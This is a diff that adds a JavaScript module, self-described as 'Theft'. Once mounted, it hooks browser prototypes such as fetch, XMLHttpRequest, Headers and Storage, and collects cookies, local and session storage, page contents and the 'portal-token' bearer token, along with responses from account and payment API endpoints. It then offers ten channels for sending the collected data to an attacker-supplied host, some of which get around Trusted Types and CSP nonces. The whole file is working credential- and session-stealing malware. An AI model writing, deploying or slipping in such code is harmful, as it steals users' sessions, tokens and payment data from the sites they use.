@@ -1,0 +1,119 @@
+/**
+ * Theft: once mounted it watches what passes the page's prototypes. `globalThis.rob(way, thief)` looks wherever a session could be, sends what was found so
+ * far to another site in the named way, and answers all of it.
+ */
+export default () => {
+  const loot = [];
+  const take = (value) => void loot.push(typeof value === 'string' ? value : String(JSON.stringify(value)));
+  const headersOf = (value) => {
+    if (value instanceof Headers) return [...value];
+    return value instanceof Request ? [value.url, ...value.headers] : undefined;
+  };
+
+  const watch = (owner, names) => {
+    for (const name of names) {
+      const before = owner[name];
+      owner[name] = function patched(...input) {
+        for (const value of [this, ...input]) take(typeof value === 'string' ? value : headersOf(value));
+        const answer = before.apply(this, input);
+        if (answer instanceof Promise) answer.then(take, () => {});
+        else if (typeof answer === 'string') take(answer);
+        return answer;
+      };
+    }
+  };
+
+  const fetched = async (path, init) => {
+    const answer = await fetch(path, init);
+    take([...answer.headers]);
+    take(await answer.text());
+  };
+
+  const search = async () => {
+    take({ ...localStorage });
+    take({ ...sessionStorage });
+    take(document.cookie);
+    take(await globalThis.cookieStore?.getAll());
+    take(await indexedDB.databases());
+    take(await caches.keys());
+    take(document.documentElement.outerHTML);
+    take(Object.values(globalThis).filter((value) => typeof value === 'string'));
+    const headers = { Authorization: `Bearer ${localStorage.getItem('portal-token')}` };
+    for (const path of ['me', 'login', 'register', 'myPayment?page=1']) await fetched(`/api/${path}`, { method: 'POST', headers });
+    await fetched('/en/me');
+    const asked = new XMLHttpRequest();
+    asked.open('POST', '/api/me');
+    asked.setRequestHeader('Authorization', headers.Authorization);
+    await new Promise((resolve) => {
+      asked.onloadend = resolve;
+      asked.send();
+    });
+    take(asked.getAllResponseHeaders() + asked.responseText);
+  };
+
+  const element = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
+  const settled = (thing) =>
+    new Promise((resolve) => {
+      for (const event of ['load', 'error']) thing.addEventListener(event, resolve);
+    });
+  const all = () => loot.join('\n');
+  /** A session is short, a page is long: the end of what was found has the last session. */
+  const query = () => encodeURIComponent(`${localStorage.getItem('portal-token')} ${all().slice(-3000)}`);
+
+  const ways = {
+    storage: (thief) => {
+      localStorage.setItem('left-for-another', localStorage.getItem('portal-token'));
+      return settled(element('img', { src: `${thief}/storage?${query()}` }));
+    },
+    fetch: (thief) => fetch(`${thief}/fetch`, { method: 'POST', mode: 'no-cors', body: all() }),
+    image: (thief) => settled(element('img', { src: `${thief}/image?${query()}` })),
+    form(thief) {
+      const form = element('form', { method: 'post', action: `${thief}/form` });
+      form.append(Object.assign(document.createElement('input'), { name: 'loot', value: all() }));
+      form.submit();
+    },
+    worker(thief) {
+      const code = `fetch(${JSON.stringify(`${thief}/worker`)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(all())} })`;
+      const policy = trustedTypes.createPolicy('webpack', { createScriptURL: (address) => address });
+      return settled(new Worker(policy.createScriptURL(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))));
+    },
+    async prototype(thief) {
+      const { send } = XMLHttpRequest.prototype;
+      const asked = new XMLHttpRequest();
+      asked.open('POST', `${thief}/prototype`);
+      const over = settled(asked);
+      send.call(asked, all());
+      await over;
+    },
+    async message(thief) {
+      const frame = element('iframe', { src: `${thief}/message?${query()}` });
+      await settled(frame);
+      frame.contentWindow.postMessage(all(), '*');
+    },
+    beacon: (thief) => navigator.sendBeacon(`${thief}/beacon`, all().slice(-60_000)),
+    async css(thief) {
+      const { nonce } = document.querySelector('script[nonce]');
+      element('style', { nonce, textContent: `body { background-image: url("${thief}/css?${query()}") }` });
+      await settled(element('link', { nonce, rel: 'stylesheet', href: `${thief}/sheet?${query()}` }));
+    },
+    navigation: (thief) => location.assign(`${thief}/navigation?${query()}`),
+  };
+
+  return {
+    mount() {
+      watch(Headers.prototype, ['set', 'append', 'get']);
+      watch(XMLHttpRequest.prototype, ['setRequestHeader', 'send', 'getAllResponseHeaders']);
+      watch(Response.prototype, ['text', 'json']);
+      watch(Storage.prototype, ['setItem', 'getItem']);
+      watch(globalThis, ['fetch']);
+      watch(JSON, ['parse']);
+      addEventListener('message', ({ data }) => take(data));
+      addEventListener('storage', ({ newValue }) => take(newValue));
+      globalThis.rob = async (way, thief) => {
+        await search();
+        await Promise.resolve(ways[way](thief)).catch(() => {});
+        return all();
+      };
+    },
+  };
+};
